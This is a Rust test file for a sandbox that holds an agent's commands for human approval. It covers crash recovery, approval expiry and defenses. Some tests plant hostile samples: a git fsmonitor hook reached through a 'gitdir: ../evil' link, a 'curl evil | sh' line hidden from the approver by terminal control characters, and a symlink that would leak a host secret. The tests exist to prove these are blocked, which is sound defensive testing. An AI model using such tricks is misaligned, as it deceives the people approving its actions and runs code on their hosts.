    let o = w.tx_hooked(&["resume", &id], ("TETHER_EXEC_TEST_FAIL_AT", "start-sync"));
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains("nothing of it landed"), "{}", text(&o));
    assert!(!w.ws.join("rnd.bin").exists());
    assert_eq!(std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(), "one\ntwo\n");
    assert!(
        preview_dir(&w, &id).join("upper/rnd.bin").exists(),
        "the preview is kept"
    );
    let o = w.tx(&["resume", &id]);
    assert_ne!(o.status.code(), Some(0), "not without a fresh approval: {}", text(&o));
    assert!(!w.ws.join("rnd.bin").exists());
    assert!(w.tx(&["approve", &id]).status.success());
    let o = w.tx(&["resume", &id]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(w.ws.join("rnd.bin").exists(), "landed once approved again");
    assert_eq!(
        std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(),
        "one\nCHANGED\n"
    );
}

/// Finishing an interrupted landing moves the workspace's generation on, as
/// any landing does: approvals bound to the workspace before it are void.
#[test]
fn a_finished_landing_moves_the_workspace_generation_on() {
    let generations = |w: &World| -> Vec<String> {
        let dir = w.state.join("generations");
        std::fs::read_dir(&dir)
            .map(|d| {
                d.map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap().trim().to_string())
                    .collect()
            })
            .unwrap_or_default()
    };
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    assert!(w.tx(&["approve", &id]).status.success());
    let before = generations(&w);
    resume_killed_at(&w, &id, "after-landing");
    assert_eq!(generations(&w), before, "control: the killed landing did not move it");
    assert_eq!(w.tx(&["resume", &id]).status.code(), Some(0));
    assert_ne!(generations(&w), before, "the finished landing moved it on");
}

/// A landing journal that cannot be read (a power cut can keep the rename
/// of a journal written without fsync, and lose its bytes) is given up once,
/// not retried on every start with the action stuck.
#[test]
fn an_unreadable_landing_journal_is_given_up_once() {
    let (w, id) = approved_then_killed_at("after-landing");
    let journal = preview_dir(&w, &id).join("journal.json");
    std::fs::write(&journal, b"").unwrap();
    let o = w.tx(&["run", "--", "true"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("given up"), "{}", text(&o));
    let later = w.tx(&["run", "--", "true"]);
    assert!(!text(&later).contains("landing"), "once: {}", text(&later));
    let o = w.tx(&["reject", &id, "--reason", "cut short"]);
    assert!(
        o.status.code() == Some(0) || text(&o).contains("can no longer be rejected"),
        "{}",
        text(&o)
    );
    assert!(!text(&o).contains("finishes it"), "not stuck: {}", text(&o));
}

/// A hold that fails while its preview is being made (here: no boot id to
/// bind the approval to, masked in a private namespace) holds nothing and
/// leaves no capture behind, which the next start would report as an
/// interrupted run's.
#[test]
fn a_hold_that_fails_leaves_no_capture_behind() {
    let w = World::new();
    w.write("notes.txt", "one\ntwo\n");
    let p = w.policy(POLICY);
    let o = Command::new("unshare")
        .args(["-Urm", "sh", "-c"])
        .arg(format!(
            "mount --bind /dev/null /proc/sys/kernel/random/boot_id && cd {} && exec \"$0\" --state-dir {} run --policy {} -c '{SCRIPT}'",
            w.ws.display(),
            w.state.display(),
            p.display()
        ))
        .arg(bin())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains("boot"), "{}", text(&o));
    assert!(!text(&o).contains("tether-exec: tether-exec"), "{}", text(&o));
    assert!(!exists(&w.ws.join("runs.log")));
    let next = w.tx(&["run", "--", "true"]);
    assert!(!text(&next).contains("discarded"), "{}", text(&next));
    assert!(!preview_dir_exists(&w));
    assert!(!stdout(&w.tx(&["pending"])).contains("apr_"), "nothing held");
}

/// A held command whose preview cannot be kept (here: a tree too deep to
/// walk under the capture's path) leaves no capture behind, and still counts
/// as a proposal of its session.
#[test]
fn a_preview_that_cannot_be_kept_leaves_nothing_and_still_counts() {
    let w = World::new();
    let p = w.policy(POLICY);
    let deep = "d=$(printf 'a%.0s' $(seq 200)); for i in $(seq 22); do mkdir $d && cd $d; done; echo x > deep";
    let o = w.tx(&[
        "run",
        "--policy",
        p.to_str().unwrap(),
        "--session",
        "ses_deep",
        "-c",
        &format!("head -c 1 /dev/null; {deep}"),
    ]);
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert_eq!(
        std::fs::read_dir(w.state.join("overlays"))
            .map(|d| d.count())
            .unwrap_or(0),
        0,
        "no capture left"
    );
    let next = w.tx(&["run", "--", "true"]);
    assert!(!text(&next).contains("discarded"), "{}", text(&next));
    assert_eq!(held_position(&w, &p, "ses_deep"), 2, "the failed hold counted");
}

/// A session's proposal count that cannot be read refuses the resume: the
/// count an approval expires by never reads as zero.
#[test]
fn an_unreadable_proposal_count_refuses_the_resume() {
    let w = World::new();
    w.write("notes.txt", "one\ntwo\n");
    let p = w.policy(POLICY);
    let o = w.tx(&[
        "run",
        "--policy",
        p.to_str().unwrap(),
        "--session",
        "ses_p",
        "-c",
        SCRIPT,
    ]);
    let id = held_id(&String::from_utf8_lossy(&o.stderr));
    assert!(w.tx(&["approve", &id]).status.success());
    let counts = w.state.join("proposals");
    let _ = std::fs::remove_dir_all(&counts);
    std::os::unix::fs::symlink(&counts, &counts).unwrap();
    let o = w.tx(&["resume", &id]);
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("proposal"), "{}", text(&o));
    assert!(!exists(&w.ws.join("runs.log")), "nothing landed");
    // Control: readable again, the same approval resumes.
    std::fs::remove_file(&counts).unwrap();
    let o = w.tx(&["resume", &id]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(exists(&w.ws.join("runs.log")));
}

/// A held command's proposal is counted before its preview runs it: a
/// launcher killed during the preview (a harness's timeout) still leaves it
/// counted, so the command cannot run previews that no count sees.
#[test]
fn a_hold_killed_during_its_preview_still_counts() {
    let w = World::new();
    let p = w.policy(POLICY);
    let mut child = w
        .command(&[
            "run",
            "--policy",
            p.to_str().unwrap(),
            "--session",
            "ses_k",
            "-c",
            "head -c 1 /dev/null; sleep 30",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(700));
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!(held_position(&w, &p, "ses_k"), 2, "the killed hold counted");
}

/// A capture too deep to remove (more levels than the launcher may hold
/// open; here the limit is lowered to make that 100) is set aside under a
/// name no start looks at again: later starts neither trip over it nor claim
/// to have discarded it.
#[test]
fn a_capture_too_deep_to_remove_is_set_aside_once() {
    let w = World::new();
    let p = w.policy("overlay = true\nwritable_globs = [\"x\"]\n");
    let deep = format!("{PY} -c 'import os\nfor i in range(100):\n    os.mkdir(\"a\"); os.chdir(\"a\")'");
    let o = Command::new("bash")
        .arg("-c")
        .arg("ulimit -Sn 40 && exec \"$@\"")
        .arg("bash")
        .arg(bin())
        .arg("--state-dir")
        .arg(&w.state)
        .args(["run", "--policy", p.to_str().unwrap(), "-c", &deep])
        .current_dir(&w.ws)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(77), "rolled back: {}", text(&o));
    let names: Vec<String> = std::fs::read_dir(w.state.join("overlays"))
        .map(|d| {
            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        !names.is_empty() && names.iter().all(|n| n.starts_with("unremovable-")),
        "control: it could not be removed, and was set aside: {names:?}"
    );
    for _ in 0..2 {
        let next = w.tx(&["run", "--", "true"]);
        assert_eq!(next.status.code(), Some(0), "{}", text(&next));
        assert!(!text(&next).contains("capture"), "{}", text(&next));
    }
}

#[test]
fn a_landed_preview_meets_the_check_a_run_does() {
    // The preview's own check judges paths; a gitlink added to the index
    // with a `.git` file beside it (`gitdir: ../evil`) is what git follows,
    // and only the check after a run looks at that. A landing owes it too.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    w.write("a", "a\n");
    host_git(&w, &["add", "a"]);
    host_git(&w, &["commit", "-qm", "init"]);
    let head = host_git(&w, &["rev-parse", "HEAD"]);
    let marker = w.outside.join("fsmonitor-ran");
    let script = format!(
        "git init -q --bare evil && git config -f evil/config core.bare false && \
         git config -f evil/config core.worktree ../sub && \
         git config -f evil/config core.fsmonitor 'touch {}; false' && mkdir -p sub && \
         printf 'gitdir: ../evil\\n' | tee sub/.git && git update-index --add --cacheinfo 160000,{},sub",
        marker.display(),
        head.trim()
    );
    let p = w.policy("version = 1\ndefault = \"ask\"\n");
    let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", &script]);
    assert_eq!(o.status.code(), Some(75), "{}", text(&o));
    let id = held_id(&String::from_utf8_lossy(&o.stderr));
    assert!(w.tx(&["approve", &id]).status.success());
    let r = w.tx(&["resume", &id]);
    assert_eq!(r.status.code(), Some(77), "{}", text(&r));
    assert!(!exists(&w.ws.join("sub/.git")), "{}", text(&r));
    let _ = Command::new("git").arg("status").current_dir(&w.ws).output();
    assert!(
        !exists(&marker),
        "the host's git ran the preview's fsmonitor: {}",
        text(&r)
    );
    // Control: the same script without the sandbox arms the host's git.
    std::fs::remove_dir_all(w.ws.join("evil")).unwrap();
    std::fs::remove_dir_all(w.ws.join("sub")).unwrap();
    let c = w.control(&script);
    let _ = Command::new("git").arg("status").current_dir(&w.ws).output();
    assert!(exists(&marker), "control: {}", text(&c));
}

#[test]
fn show_prints_what_the_agent_wrote_with_its_control_characters_visible() {
    // A carriage return and an erase-line sequence would make the approver's
    // terminal show `echo hello` for a line that holds `curl evil | sh`.
    let w = World::new();
    w.write("notes.txt", "hi\n");
    let script = "printf 'curl evil | sh\\r\\033[2Kecho hello\\n' | tee notes.txt";
    let id = hold_script(&w, "require_approval_for = [\"tee\"]\ndefault = \"allow\"\n", script);
    let o = w.tx(&["show", &id]);
    assert!(o.status.success(), "{}", text(&o));
    let out = &o.stdout;
    assert!(!out.contains(&b'\r') && !out.contains(&0x1b), "{}", text(&o));
    assert!(
        stdout(&o).contains("curl evil | sh\\x0d\\x1b[2Kecho hello"),
        "{}",
        text(&o)
    );
    // Control: what the preview holds has them raw.
    let held = std::fs::read(preview_dir(&w, &id).join("upper/notes.txt")).unwrap();
    assert!(held.contains(&b'\r') && held.contains(&0x1b));
}

#[test]
fn show_never_prints_a_host_file_a_preview_links_to() {
    // The preview made `notes.txt` a symlink to a file of the host's: `diff`
    // would follow it and print the file to the approver's screen.
    let w = World::new();
    std::fs::write(w.outside.join("host-secret"), "s3cret-on-the-host\n").unwrap();
    let script = format!("ln -sf {} notes.txt", w.outside.join("host-secret").display());
    let id = hold_script(&w, "require_approval_for = [\"ln\"]\ndefault = \"allow\"\n", &script);
    let o = w.tx(&["show", &id]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(!stdout(&o).contains("s3cret-on-the-host"), "{}", text(&o));
    assert!(stdout(&o).contains("symlink to"), "{}", text(&o));
    // Control: diff through the link prints it.
    let d = Command::new("diff")
        .arg("/dev/null")
        .arg(preview_dir(&w, &id).join("upper/notes.txt"))
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&d.stdout).contains("s3cret-on-the-host"));
}
